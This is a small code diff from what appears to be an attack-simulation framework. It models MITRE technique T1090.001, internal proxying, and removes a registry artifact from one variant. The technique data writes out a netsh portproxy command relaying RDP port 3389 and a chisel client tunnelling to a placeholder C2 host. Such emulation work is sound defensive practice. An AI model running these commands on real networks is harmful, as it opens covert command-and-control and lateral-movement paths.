@@ -30,7 +30,7 @@ var commandAndControl = []*Technique{
 		ID: "T1090.001", Name: "Proxy: Internal Proxy", Tactic: "command-and-control", Effect: "traffic is relayed inside the estate",
 		Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.96,
 		script: &script{at: onElevated, variants: []variant{
-			by("netsh portproxy", cmd(world.Netsh, `netsh interface portproxy add v4tov4 listenport=3389 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.30.0.20`), registry(`HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/3389`, "10.30.0.20/3389")),
+			by("netsh portproxy", cmd(world.Netsh, `netsh interface portproxy add v4tov4 listenport=3389 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.30.0.20`)),
 			by("chisel", cmd(world.Dropped(`C:\Users\Public\chisel.exe`, &plain), `chisel.exe client https://{c2}:443 R:127.0.0.1:3389:10.30.0.20:3389 -socks5`), connect("", 443, "ssl", 9e3, 9e3)),
 			by("named pipe relay", pipe(`\MSSE-1407-server`)),
 		}},
